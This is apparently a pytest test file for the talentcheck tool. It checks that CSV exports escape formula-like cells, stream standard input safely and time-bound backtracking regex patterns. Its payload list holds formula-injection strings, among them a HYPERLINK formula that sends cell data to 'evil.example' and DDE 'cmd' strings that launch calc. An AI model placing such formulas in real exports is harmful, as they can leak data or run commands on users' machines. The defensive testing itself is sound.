"""Outputs safe to open and a resolver that trusts nothing it reads: every CSV the suite writes for a reader
(verdicts.csv, `talentcheck neurips resolve`) shows a cell that begins like a spreadsheet formula as text and keeps
a line break inside its cell; `resolve` answers line by line in bounded memory, and a closed or undecodable
standard input is one line; the reviewed table's patterns are compiled, probed and searched with a time bound."""
import csv
import io
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpers import set_cell
from talentcheck import cli
from talentcheck.data.files import FORMULA_START, csv_line, spreadsheet_safe
from talentcheck.neurips.resolver import matcher
from talentcheck.neurips.resolver.resolve import resolver_for, stdin_lines, write_csv
from talentcheck.run.results import write_verdicts

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|x",
            "@SUM(1+1)*cmd|x", "\t=1+1", "\r=1+1", "\n=1+1"]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_begins_like_a_formula_is_shown_as_text(payload):
    assert spreadsheet_safe(payload) == "'" + payload
    assert read_back(csv_line(["claim", payload])) == [["claim", "'" + payload]]


@pytest.mark.parametrize("plain", ["-5", "+3", "-0.25", "1e-3", "-1.5E+09", "text", "", "'=already text", " =spaced"])
def test_a_plain_number_or_text_is_left_as_it_is(plain):
    assert spreadsheet_safe(plain) == plain
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(None) is None


@given(st.lists(st.text(alphabet=st.sampled_from(list("ab,\"'=+-@\t\r\n 1.e")), max_size=12), min_size=1, max_size=5))
def test_any_row_reads_back_as_one_row_of_its_cells_none_a_formula(cells):
    """Whatever the cells hold (commas, quotes, a lone CR, formula characters), the line reads back as one row
    of the same cells, each either as given or with the quote in front that makes it text."""
    [row] = read_back(csv_line(cells))
    assert row == [spreadsheet_safe(c) for c in cells]
    assert not any(c.startswith(FORMULA_START) and c != spreadsheet_safe(c) for c in row)
    assert [c for c in row if c[:1] in FORMULA_START] == [c for c in row if c[:1] in FORMULA_START and spreadsheet_safe(c) == c]


def test_verdicts_csv_neutralises_a_claims_words_and_keeps_line_breaks_in_their_cells(tmp_path):
    row = {"claim_id": "x-1", "verdict": "supported", "stated": "=HYPERLINK(\"http://evil.example\")", "observed": "-3",
           "unit": "@SUM(A1)", "reason": "first line\rsecond\nthird, \"quoted\"", "notebook": "01_researcher_origin.ipynb",
           "parameters": "{}", "figures": "{}", "against": "{}"}
    write_verdicts([row], tmp_path / "verdicts.csv")
    with open(tmp_path / "verdicts.csv", newline="", encoding="utf-8") as handle:
        [back] = list(csv.DictReader(handle))
    assert back["stated"] == "'" + row["stated"] and back["unit"] == "'@SUM(A1)" and back["observed"] == "-3"
    assert back["reason"] == row["reason"]  # the CR and LF stay inside the cell
    assert (tmp_path / "verdicts.csv").read_bytes().count(b"\n") == 1 + 2  # the header, the row's end, the LF inside


# ------------------------------------------------------------------------------- talentcheck neurips resolve

@pytest.fixture
def resolver():
    return resolver_for(Path("/nonexistent/raw"))  # the reviewed table only, as in a user's clone


def test_resolve_echoes_no_formula_and_quotes_a_carriage_return(capsys):
    assert cli.main(["neurips", "resolve", "=cmd|' /C calc'!A0", "Tsinghua\rUniversity", "--raw", "/nonexistent"]) == 0
    out = capsys.readouterr().out
    rows = read_back(out)
    assert rows[0] == ["raw", "institution", "country", "sector"]
    assert rows[1][0] == "'=cmd|' /C calc'!A0"
    assert rows[2][0] == "Tsinghua\rUniversity" and len(rows) == 3


def test_resolve_writes_each_strings_rows_before_it_reads_the_next(resolver):
    """Line in, rows out: the rows of the first string are written (and flushed) before the second is read."""
    out = io.StringIO()
    seen = []

    def strings():
        yield "Tsinghua University"
        seen.append(out.getvalue())
        yield "Peking University"
    write_csv(strings(), resolver, out)
    assert "Tsinghua University,Tsinghua University,CHN,university" in seen[0]
    assert "Peking" not in seen[0] and "Peking University,Peking University,CHN" in out.getvalue()


def test_a_resolvers_memory_stays_bounded_on_a_stream_of_new_strings(resolver, monkeypatch):
    monkeypatch.setattr(matcher, "REMEMBERED", 50)
    write_csv((f"Laboratory {i} of Nowhere" for i in range(400)), resolver, io.StringIO())
    assert len(resolver.cache) <= 50 and len(resolver.looked_up) <= 50


@pytest.mark.parametrize("stdin, message", [
    (None, "standard input is closed: give the affiliations as arguments, or one per line on standard input"),
    (io.TextIOWrapper(io.BytesIO(b"Tsinghua University\nbad \xff byte\n")), "standard input, line 2: not UTF-8 text (byte 5)"),
], ids=["closed", "not-utf8"])
def test_a_closed_or_undecodable_stdin_is_one_line(monkeypatch, capsys, stdin, message):
    monkeypatch.setattr(sys, "stdin", stdin)
    assert cli.main(["neurips", "resolve", "--raw", "/nonexistent"]) == 2
    err = capsys.readouterr().err
    assert err.endswith(f"talentcheck: error: {message}\n") and err.count("talentcheck: error") == 1, err


def test_stdin_lines_reads_one_line_at_a_time():
    stdin = io.TextIOWrapper(io.BytesIO(b"a\r\nb\n"))
    lines = stdin_lines(stdin)
    assert next(lines) == "a" and list(lines) == ["b"]


# ------------------------------------------------------------------------------- the reviewed table's patterns

def test_a_pattern_that_backtracks_on_a_name_is_named_by_file_row_and_column(data_copy, capsys):
    """A pattern validate's probes pass (runs of one letter) but that backtracks without end on "xyxy...":
    the search is cut at the time bound and the one line names the row, not a hang."""
    set_cell(data_copy / "neurips" / "institution_names.csv", {"institution": "DeepMind"}, "names", "(xy|xyxy)+z")
    assert cli.main(["validate"]) == 0
    capsys.readouterr()
    assert cli.main(["neurips", "resolve", "xy" * 30, "--raw", "/nonexistent"]) == 2
    err = capsys.readouterr().err.splitlines()[-1].replace(f"{data_copy.parent}/", "")
    assert err.startswith("talentcheck: error: data/neurips/institution_names.csv, row 2, column names: the pattern "
                          "'(xy|xyxy)+z' took over 0.5 s on 'xyxyxy"), err
